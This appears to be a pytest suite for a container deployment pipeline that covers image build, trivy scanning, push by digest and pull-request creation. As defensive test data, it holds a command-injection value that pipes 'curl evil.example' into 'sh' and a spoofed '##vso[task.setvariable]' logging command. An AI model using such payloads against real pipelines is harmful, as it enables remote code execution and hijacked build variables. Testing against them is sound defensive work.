"""An application's image: built in the network, scanned, pushed, and named by its digest in a pull request."""

import sys
import tomllib
from pathlib import Path

import pytest

from deployment import image, propose
from deployment.raise_digest import DigestError, raised
from tests.pipelines.templates import PIPELINES, expand
from tests.product import ENVIRONMENTS_OF_THE_TESTS

DIGEST = "sha256:" + "0123456789abcdef" * 4
REFERENCE = "crshop.azurecr.io/shop/orders:42"


@pytest.fixture
def calls(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where tools on the path write how they are called; one whose call is in the file `fails` fails."""
    for name in ("az", "docker", "trivy", "git"):
        (tmp_path / name).write_text(
            f"#!{sys.executable}\nimport pathlib, sys\n"
            f'here, said = pathlib.Path(__file__).parent, "{name} " + " ".join(sys.argv[1:])\n'
            'with (here / "calls").open("a") as calls:\n    calls.write(said + "\\n")\n'
            f"""print('["other.example/x@sha256:1", "crshop.azurecr.io/shop/orders@{DIGEST}"]')\n"""
            'sys.exit(said.startswith((here / "fails").read_text()))\n'
        )
        (tmp_path / name).chmod(0o755)
    (tmp_path / "fails").write_text("git diff")  # there is something to propose
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    return tmp_path / "calls"


@pytest.mark.req(92)
@pytest.mark.req(102)
def test_an_image_is_built_from_the_registrys_bases_and_told_by_its_digest(calls: Path) -> None:
    image.build("crshop", REFERENCE, "../application")
    assert image.push("crshop", REFERENCE) == DIGEST

    # No argument but where base images are: a secret would stay in a layer.
    assert calls.read_text().splitlines() == [
        "az acr login --name crshop",
        f"docker build --pull --build-arg REGISTRY=crshop.azurecr.io --tag {REFERENCE} ../application",
        "az acr login --name crshop",
        f"docker push {REFERENCE}",
        f"docker image inspect --format {{{{json .RepoDigests}}}} {REFERENCE}",
    ]


@pytest.mark.req(83)
@pytest.mark.req(102)
def test_an_image_with_a_vulnerability_or_a_secret_stops_the_pipeline(calls: Path) -> None:
    (calls.parent / "fails").write_text("trivy image")

    with pytest.raises(Exception, match="trivy"):
        image.scan("crshop", REFERENCE)

    scanned = calls.read_text().splitlines()[-1]
    assert "--exit-code 1" in scanned
    assert "--scanners vuln,secret --severity HIGH,CRITICAL" in scanned
    # Nothing from outside, which the firewall keeps closed.
    assert "--db-repository crshop.azurecr.io/trivy/trivy-db:2" in scanned
    assert "--java-db-repository crshop.azurecr.io/trivy/trivy-java-db:1" in scanned


@pytest.mark.req(83)
@pytest.mark.req(92)
@pytest.mark.req(102)
def test_the_pipeline_scans_before_it_pushes_inside_the_network_and_deploys_by_digest() -> None:
    (stage,) = expand(PIPELINES / "application.yml")["stages"]
    (job,) = stage["jobs"]
    commands = [step.get("bash") or step.get("inputs", {}).get("inlineScript", "") for step in job["steps"]]
    order = [command.split()[2:4] for command in commands if command]

    assert job["pool"] == {"name": "dev-agents"}
    assert [words[0] if words[0] != "deployment.image" else words[1] for words in order] == [
        "build",
        "scan",
        "push",
        "deployment.raise_digest",
        "deployment.propose",
    ]
    assert '"$DIGEST"' in commands[-2]
    assert job["steps"][-2]["env"] == {"DIGEST": "$(push.digest)"}


@pytest.mark.req(102)
def test_what_an_applications_repository_says_is_no_part_of_a_command() -> None:
    given = {"environment": "dev", "connection": "dev-images"}
    honest, tricky = (
        [
            step.get("bash") or step["inputs"]["inlineScript"]
            for stage in expand(PIPELINES / "templates" / "application.yml", given | {"imageRepository": name})[
                "stages"
            ]
            for job in stage["jobs"]
            for step in job["steps"]
            if "checkout" not in step
        ]
        for name in ("shop/orders", 'x"; curl evil.example | sh; "')
    )

    assert honest == tricky
    # Nor what a step before has set: Azure DevOps puts the value of `$(name)` into the text that the shell reads.
    assert [command for command in honest if "$(" in command] == []


@pytest.mark.req(102)
def test_what_a_build_and_an_image_print_is_no_command_to_the_agent(
    calls: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """See https://learn.microsoft.com/azure/devops/pipelines/scripts/logging-commands."""
    trick = "#8 0.2 ##vso[task.setvariable variable=REGISTRY]evil"
    for tool in ("docker", "trivy"):
        (calls.parent / tool).write_text(f"#!/bin/sh\necho '{trick}'\necho '{trick}' >&2\n")
    monkeypatch.setenv("TF_BUILD", "True")

    image.build("crshop", REFERENCE, "../application")
    image.scan("crshop", REFERENCE)

    said = capfd.readouterr()
    assert "##vso[" not in said.out + said.err
    assert said.out.count("## vso[task.setvariable variable=REGISTRY]evil") == 4


def test_a_digest_is_raised_and_nothing_else_is_touched() -> None:
    text = (ENVIRONMENTS_OF_THE_TESTS / "prod.toml").read_text(encoding="utf-8")

    after = raised(text, "shop/orders", DIGEST)

    (application,) = tomllib.loads(after)["workloads"]["applications"]
    assert application["image_digest"] == DIGEST
    changed = [pair for pair in zip(text.splitlines(), after.splitlines(), strict=True) if pair[0] != pair[1]]
    assert len(changed) == 1


@pytest.mark.parametrize(
    ("text", "digest", "why"),
    [
        ('image_repository = "a"\nimage_digest = "old"', "latest", "is no digest"),
        ('image_repository = "b"\nimage_digest = "old"', DIGEST, "is the image_repository of nothing"),
        ("image_repository = 'a'\nimage_digest = 'old'", DIGEST, "by hand"),
        ('image_digest = "old"\nimage_repository = "a"\n[x]\nimage_digest = "old"', DIGEST, "by hand"),
    ],
    ids=["no digest", "another image", "another way to write it", "another image with this digest"],
)
def test_a_digest_that_cannot_be_raised_alone_is_refused(text: str, digest: str, why: str) -> None:
    with pytest.raises(DigestError, match=why):
        raised(text, "a", digest)


def test_a_pull_request_is_opened_for_what_has_changed(calls: Path) -> None:
    propose.propose("image/dev/42", "Deploy orders", "environments/dev.toml")
    asked = calls.read_text().splitlines()
    assert asked[1] == "git switch --create image/dev/42"
    assert asked[-1].startswith("az repos pr create --detect true --source-branch image/dev/42 --target-branch main")

    (calls.parent / "fails").write_text("nothing")
    propose.propose("image/dev/42", "Deploy orders", "environments/dev.toml")
    assert len(calls.read_text().splitlines()) == len(asked) + 1
